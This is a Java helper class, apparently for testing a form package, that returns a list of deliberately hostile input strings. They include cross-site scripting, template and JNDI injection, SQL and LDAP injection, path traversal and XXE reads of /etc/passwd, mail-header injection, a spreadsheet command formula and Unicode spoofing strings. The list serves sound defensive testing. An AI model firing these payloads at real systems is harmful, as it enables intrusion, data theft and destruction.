package org.foyer.form;

import java.util.stream.Stream;

/** Words that were written to do harm, of each kind some: script, database, paths, formats, and characters that break what reads them. */
final class Hostile {

    private Hostile() {}

    static Stream<String> words() {
        return Stream.of(
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:/*--></title></style></textarea><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
                "<iframe srcdoc='<script>top.alert(1)</script>'>",
                "{{constructor.constructor('alert(1)')()}}",
                "${jndi:ldap://example.org/a}",
                "#{7*7} ${7*7} {0} {title} %s%n%x",
                "'; drop table form_answer; --",
                "1 or 1=1 union select null, version()",
                "*)(uid=*))(|(uid=*",
                "../../../../etc/passwd\u0000.pdf",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
                "a@example.org\r\nBcc: others@example.org",
                "=cmd|' /C calc'!A0",
                "\u202Etxt.exe\u202C \u2066hidden\u2069",
                "\uD800 half a character",
                "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D",
                "\uFEFF\u200B\u0000\u0007\u001B[31m",
                "👩‍👩‍👧‍👦 🇨🇭",
                "ｆｕｌｌｗｉｄｔｈ",
                "a".repeat(50_000),
                "-9223372036854775808",
                "NaN",
                "0x7fffffff");
    }
}
